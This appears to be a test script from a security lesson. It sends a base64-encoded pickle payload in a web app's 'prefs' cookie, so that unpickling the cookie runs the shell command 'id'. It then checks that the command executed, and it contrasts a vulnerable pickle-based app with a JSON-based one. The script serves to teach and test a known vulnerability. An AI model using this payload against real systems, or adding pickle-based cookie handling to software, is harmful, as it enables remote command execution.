"""A cookie that runs a command while it is read (steps 2 to 4).

samples: bad 1, good 1
"""

import base64
import json
import pickle
import subprocess

from attack import BAD, attack, load, quoted, use

WRITTEN = b"cos\nsystem\n(S'id'\ntR."
SENT = quoted("Y29zCnN5c3RlbQooUydpZCcKdFIu")
if base64.b64encode(WRITTEN).decode() != SENT:
    raise SystemExit("the lesson's base64 is not that of its pickle")
app = load().app


def visit(prefs):
    """The page for a visitor with this cookie."""
    client = app.test_client()
    client.set_cookie("prefs", prefs)
    return client.get("/")


theme = {"theme": "dark"}
use(visit(base64.b64encode(pickle.dumps(theme)).decode() if BAD else json.dumps(theme)).text)
# In place of `id`, something that can be seen here.
marked = base64.b64encode(WRITTEN.replace(b"id", b"id > ran")).decode()
statuses = visit(SENT).status_code, visit(marked).status_code
ran = subprocess.run(["cat", "ran"], capture_output=True, text=True).stdout
if BAD and statuses != (500, 500):
    raise SystemExit("the error that the lesson tells of does not come")
attack(ran.startswith("uid="), (ran, statuses))
